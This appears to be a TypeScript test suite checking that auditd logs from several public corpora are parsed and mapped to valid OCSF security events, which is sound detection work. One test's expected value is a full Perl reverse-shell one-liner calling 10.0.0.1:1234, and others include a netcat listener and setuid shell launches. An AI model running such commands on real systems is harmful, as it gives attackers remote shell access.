/**
 * Every file of ../shared/telemetry/auditd/ through the real path: importFile() → processRecord().
 * Raw audit logs (OTRF atomic runs, LAUREL's and go-libaudit's test logs) are read as `auditd`
 * (LAUREL's annotated traces open with `#` comments, so they are named rather than sniffed); the
 * JSON files (LAUREL output, go-libaudit's parsed messages and coalesced events), the YAML test
 * inputs with audit lines inside, and the prose files are read as a user would: auto-detected.
 * Rejections allowed, because they are not records: the `#` comment lines of LAUREL's annotated
 * traces, the end-of-event markers its reordered trace puts after nine other events (their events
 * were emitted already), and a JSON `null` in go-libaudit's golden output (a parse failure it expects).
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import { parse as parseYaml } from 'yaml';
import { AuditdLineDecoder } from '../parsers/auditd.js';
import { processRecord } from '../pipeline/process.js';
import { importFile } from '../sources/import.js';
import { OCSF_SCHEMA_DIR } from '../testing/ocsf-schema.js';
import { sharedPath, sharedSkip } from '../testing/shared.js';
import { OCSF_COMPILED, validateAuditOcsf } from './auditd-ocsf.testing.js';
import type { OcsfEvent } from './ocsf.js';

const DIR = 'telemetry/auditd';
const skip = sharedSkip(DIR, OCSF_SCHEMA_DIR, OCSF_COMPILED);
const CTX = { source: 'corpus', receivedAt: Date.UTC(2026, 0, 1) };

type Family = 'auditd raw' | 'LAUREL JSON' | 'go-libaudit JSON' | 'YAML with audit lines' | 'other';

interface FileResult {
  file: string;
  family: Family;
  events: OcsfEvent[];
  rejections: { reason: string; position: string }[];
}

function listFiles(): string[] {
  const root = sharedPath(DIR);
  const out: string[] = [];
  (function walk(dir: string) {
    for (const name of readdirSync(dir).sort()) {
      const path = join(dir, name);
      if (statSync(path).isDirectory()) walk(path);
      else out.push(relative(root, path));
    }
  })(root);
  return out;
}

/** Licence and provenance files are not telemetry; zips are checked against their extracted copies. */
const isMeta = (file: string) => /(^|\/)(LICENSE(\.txt)?|SOURCE\.txt|PROVENANCE\.tsv)$/.test(file);

function familyOf(file: string): Family {
  if (/\.(log|txt)$/.test(file) && !file.endsWith('README.txt')) return 'auditd raw';
  if (file.startsWith('laurel-testdata/') && file.endsWith('.json')) return 'LAUREL JSON';
  if (file.startsWith('go-libaudit-testdata/auparse/') && file.endsWith('.golden')) return 'go-libaudit JSON';
  if (file.startsWith('go-libaudit-testdata/aucoalesce/') && file.endsWith('.yaml'))
    return 'YAML with audit lines';
  return 'other';
}

async function ingest(file: string): Promise<FileResult> {
  const family = familyOf(file);
  const result: FileResult = { file, family, events: [], rejections: [] };
  const options = family === 'auditd raw' ? { format: 'auditd' } : {};
  for await (const chunk of importFile(sharedPath(`${DIR}/${file}`), options)) {
    for (const issue of chunk.issues ?? []) result.rejections.push(issue);
    for (const record of chunk.records) {
      const out = processRecord(record, CTX);
      if (out.ok) result.events.push(out.event);
      else result.rejections.push(out.error);
    }
  }
  return result;
}

/** A stored zip's single member (deflate or stored), read without a zip library. */
function zipMember(path: string): { name: string; data: Buffer } {
  const zip = readFileSync(path);
  assert.equal(zip.readUInt32LE(0), 0x04034b50, 'a zip local file header');
  const method = zip.readUInt16LE(8);
  const size = zip.readUInt32LE(18);
  const nameLength = zip.readUInt16LE(26);
  const extraLength = zip.readUInt16LE(28);
  const name = zip.subarray(30, 30 + nameLength).toString('utf8');
  const start = 30 + nameLength + extraLength;
  const body = zip.subarray(start, start + size);
  return { name, data: method === 8 ? inflateRawSync(body) : body };
}

const get = (e: unknown, path: string): unknown =>
  path
    .split('.')
    .reduce<unknown>(
      (n, k) => (n !== null && typeof n === 'object' ? (n as Record<string, unknown>)[k] : undefined),
      e,
    );

describe('auditd corpus (../shared/telemetry/auditd)', { skip }, () => {
  const results = new Map<string, FileResult>();
  const eventsOf = (file: string): OcsfEvent[] => {
    const r = results.get(file);
    assert.ok(r, `${file} was ingested`);
    return r.events;
  };
  const find = (file: string, pred: (e: OcsfEvent) => boolean): OcsfEvent => {
    const e = eventsOf(file).find(pred);
    assert.ok(e, `an event in ${file}`);
    return e;
  };

  test('every file: ingested without a crash; only non-records rejected; mapped events 100% valid', async (t) => {
    const files = listFiles().filter((f) => !isMeta(f) && !f.endsWith('.zip'));
    assert.ok(files.length >= 85, `found ${files.length} files`);
    const totals = new Map<Family, { records: number; mapped: number; audit: number; valid: number }>();
    for (const file of files) {
      const r = await ingest(file);
      results.set(file, r);
      for (const rej of r.rejections) {
        const allowed =
          rej.reason === 'comment' ||
          (file.endsWith('shell-proc-trace-reordered.txt') && rej.reason === 'late_eoe') ||
          (file.endsWith('audit-rhel7.log.golden') && rej.reason === 'not_an_object');
        assert.ok(allowed, `${file}: unexpected rejection ${rej.reason} at ${rej.position}`);
      }
      const sum = totals.get(r.family) ?? { records: 0, mapped: 0, audit: 0, valid: 0 };
      for (const e of r.events) {
        sum.records++;
        if (e.metadata.product.name !== 'auditd') continue;
        sum.audit++;
        if (e.class_uid !== 0) sum.mapped++;
        const errors = validateAuditOcsf(e);
        if (errors.length === 0) sum.valid++;
        else
          assert.fail(`${file}: ${e.metadata.original_event_uid} class ${e.class_uid}: ${errors.join('; ')}`);
      }
      totals.set(r.family, sum);
    }
    for (const [family, s] of totals) {
      const rate = s.audit === 0 ? 100 : (100 * s.valid) / s.audit;
      t.diagnostic(
        `${family}: ${s.records} events, ${s.audit} by the auditd normalizer, ${s.mapped} mapped to a specific class, OCSF valid ${rate.toFixed(1)}%`,
      );
    }
    const rejected = [...results.values()].reduce((n, r) => n + r.rejections.length, 0);
    t.diagnostic(
      `rejections: ${rejected} (LAUREL's '#' comment lines; the EOE lines LAUREL's reordered trace puts after ` +
        `their events left the window; go-libaudit's expected null)`,
    );
    // What is mapped today (execve, fork, connect/bind, logons, account changes): a floor, not a ceiling.
    assert.ok(totals.get('auditd raw')!.mapped >= 157);
    assert.ok(totals.get('LAUREL JSON')!.mapped >= 8);
    assert.ok(totals.get('go-libaudit JSON')!.mapped >= 13);
    assert.equal(totals.get('LAUREL JSON')!.audit, totals.get('LAUREL JSON')!.records);
  });

  test('the zipped OTRF runs are the .log files beside them', { skip }, () => {
    for (const [zip, log] of [
      ['otrf-atomic/sh_arp_cache.zip', 'otrf-atomic/sh_arp_cache_2020-11-10074812.log'],
      ['otrf-atomic/sh_binary_padding_dd.zip', 'otrf-atomic/sh_binary_padding_dd_2020-11-10081941.log'],
    ] as const) {
      const member = zipMember(sharedPath(`${DIR}/${zip}`));
      assert.equal(member.name, log.split('/')[1]);
      assert.deepEqual(member.data, readFileSync(sharedPath(`${DIR}/${log}`)));
    }
  });

  test('LAUREL perl reverse shell: the command line end to end (raw and LAUREL JSON alike)', () => {
    const expected =
      'perl -e use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));' +
      'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};';
    for (const file of [
      'laurel-testdata/record-perl-reverse-shell.txt',
      'laurel-testdata/record-perl-reverse-shell.json',
    ]) {
      const [e] = eventsOf(file);
      assert.equal(e!.class_uid, 1007);
      assert.equal(e!.activity_id, 1);
      assert.equal(get(e, 'process.cmd_line'), expected);
      assert.equal(get(e, 'process.file.path'), '/usr/bin/perl');
      assert.equal(get(e, 'process.pid'), 724395);
      assert.equal(get(e, 'process.parent_process.pid'), 722076);
      assert.deepEqual(get(e, 'process.user'), { uid: '0', name: 'root' });
      assert.deepEqual(get(e, 'actor.user'), { uid: '1000', name: 'user' });
      assert.equal(get(e, 'process.working_directory'), '/root');
      assert.deepEqual(get(e, 'process.session'), { uid: '3', terminal: 'pts3' });
      assert.equal(e!.time, Date.UTC(2021, 6, 18, 12, 29, 23, 720));
    }
  });

  test('OTRF atomic runs: arp -a discovery and dd binary padding', () => {
    const arp = find(
      'otrf-atomic/sh_arp_cache_2020-11-10074812.log',
      (e) => get(e, 'process.name') === 'arp',
    );
    assert.equal(get(arp, 'process.cmd_line'), 'arp -a');
    assert.equal(get(arp, 'process.working_directory'), '/home/wardog');
    assert.equal(get(arp, 'actor.user.uid'), '1000');
    assert.equal(get(arp, 'process.session.terminal'), 'pts0');
    assert.equal(arp.metadata.original_event_uid, '1604994496.155:92733');
    const grep = find(
      'otrf-atomic/sh_arp_cache_2020-11-10074812.log',
      (e) => get(e, 'process.name') === 'grep',
    );
    assert.equal(get(grep, 'process.cmd_line'), 'grep -v ^?');
    assert.equal(get(grep, 'process.parent_process.pid'), 29002);
    const [dd] = eventsOf('otrf-atomic/sh_binary_padding_dd_2020-11-10081941.log');
    assert.equal(get(dd, 'process.cmd_line'), 'dd if=/dev/zero bs=1 count=1');
    assert.equal(get(dd, 'process.file.path'), '/bin/dd');
  });

  test('LAUREL: the WebLogic exploit launch, a connect to memcached, a bind by netcat on big-endian ppc64', () => {
    const java = find('laurel-testdata/record-weblogic.txt', (e) => e.class_uid === 1007);
    assert.match(
      String(get(java, 'process.cmd_line')),
      /^\/usr\/java\/jdk1\.8\.0_151\/bin\/java -server .* weblogic\.Server$/,
    );
    assert.equal(get(java, 'process.working_directory'), '/u01/oracle/user_projects/domains/base_domain');
    assert.equal(get(java, 'actor.user.uid'), '1000');
    const [connect, inProgress] = eventsOf('laurel-testdata/record-connect.txt');
    assert.deepEqual(connect!.dst_endpoint, { ip: '127.0.0.1', port: 11211 });
    assert.equal(get(connect, 'actor.process.file.path'), '/usr/bin/php');
    assert.equal(inProgress!.status_code, 'EINPROGRESS');
    assert.deepEqual(inProgress!.dst_endpoint, { ip: '::1', port: 11211 });
    for (const file of [
      'laurel-testdata/record-bind-ipv4-bigendian.txt',
      'laurel-testdata/record-bind-ipv4-bigendian.json',
    ]) {
      const [bind] = eventsOf(file);
      assert.equal(bind!.activity_name, 'Listen');
      assert.deepEqual(bind!.dst_endpoint, { ip: '0.0.0.0', port: 55555 });
      assert.equal(get(bind, 'actor.process.cmd_line'), 'nc -l -p 55555');
    }
  });

  test('LAUREL: long split EXECVE argument, ptrace of sleep, rule keys', () => {
    const [echo] = eventsOf('laurel-testdata/record-execve-long.txt');
    const cmd = String(get(echo, 'process.cmd_line'));
    assert.ok(cmd.startsWith('/bin/echo baaaa'));
    // a1_len=16384 counts hex digits: the argument is 8192 bytes, a `b`, a run of `a`, a `g`.
    assert.equal(cmd.length, '/bin/echo '.length + 8192);
    assert.ok(cmd.endsWith('aaag'));
    const [jsonEcho] = eventsOf('laurel-testdata/record-execve-long.json');
    assert.equal(get(jsonEcho, 'process.cmd_line'), cmd);
    const [ptrace] = eventsOf('laurel-testdata/record-ptrace.txt');
    assert.deepEqual(get(ptrace, 'process'), { pid: 2732155, name: 'sleep', user: { uid: '0' } });
    assert.equal(get(ptrace, 'actor.process.name'), 'strace');
    const keys = eventsOf('laurel-testdata/record-syscall-key.txt').map((e) => e.metadata.tags?.[0]?.value);
    assert.deepEqual(keys, ['filter-this', 'filter-this', 'this-too']);
    const apt = eventsOf('laurel-testdata/tree/00.txt')[0]!;
    assert.equal(get(apt, 'process.cmd_line'), 'apt-get update');
    assert.deepEqual(apt.metadata.tags, [{ name: 'audit_key', value: 'software_mgmt' }]);
  });

  test('go-libaudit logs: sshd logons, useradd, the same in its JSON output', () => {
    for (const file of [
      'go-libaudit-testdata/auparse/testdata/audit-ubuntu16.log',
      'go-libaudit-testdata/auparse/testdata/audit-ubuntu16.log.golden',
    ]) {
      const [failed, ok] = eventsOf(file);
      assert.equal(failed!.class_uid, 3002);
      assert.equal(failed!.status_id, 2);
      assert.deepEqual(failed!.user, { name: '(invalid user)' });
      assert.deepEqual(failed!.src_endpoint, { ip: '179.38.151.221' });
      assert.equal(ok!.status_id, 1);
      assert.deepEqual(ok!.user, { uid: '1001' });
      assert.deepEqual(ok!.session, { uid: '36', terminal: '/dev/pts/1' });
    }
    const add = find(
      'go-libaudit-testdata/auparse/testdata/audit-rhel7.log',
      (e) => e.metadata.event_code === 'ADD_USER',
    );
    assert.equal(add.class_uid, 3001);
    assert.deepEqual(add.user, { uid: '1000' });
    assert.equal(get(add, 'actor.process.file.path'), '/usr/sbin/useradd');
    const login = find(
      'go-libaudit-testdata/auparse/testdata/audit-rhel7.log',
      (e) => e.metadata.event_code === 'USER_LOGIN',
    );
    assert.deepEqual(login.src_endpoint, {
      ip: '96.241.146.97',
      hostname: 'pool-96-241-146-97.washdc.fios.verizon.net',
    });
    const grep = eventsOf('go-libaudit-testdata/auparse/testdata/audit-ubuntu17.log')[0]!;
    assert.deepEqual(grep.metadata.tags, [{ name: 'audit_key', value: 'exec,64bit' }]);
    const interleaved = eventsOf('go-libaudit-testdata/auparse/testdata/test3.log');
    assert.equal(get(interleaved[0], 'unmapped.PROCTITLE.proctitle'), 'sshd: burn [priv]');
    assert.equal(get(interleaved[1], 'unmapped.PROCTITLE.proctitle'), 'bash');
  });

  test('YAML test inputs: the audit lines inside, grouped by the decoder, map like a log', () => {
    const text = readFileSync(
      sharedPath(`${DIR}/go-libaudit-testdata/aucoalesce/testdata/ubuntu-20.04.6-linux-5.15.0-1034-gcp.yaml`),
      'utf8',
    );
    const doc = parseYaml(text) as { tests: Record<string, string> };
    const decoder = new AuditdLineDecoder();
    const records = Object.values(doc.tests)
      .flatMap((block) => block.split('\n'))
      .flatMap((line, i) => decoder.push(line, `line ${i + 1}`).records)
      .concat(decoder.end());
    const events = records.map((r) => processRecord(r, CTX)).flatMap((o) => (o.ok ? [o.event] : []));
    assert.equal(events.length, records.length);
    const dash = events.find((e) => get(e, 'process.cmd_line') === 'dash -p');
    assert.ok(dash, 'the setuid dash launch');
    assert.deepEqual(validateAuditOcsf(dash), []);
    assert.equal(get(dash, 'process.file.path'), '/usr/bin/dash');
    assert.equal(get(dash, 'actor.user.uid'), '1005');
  });
});
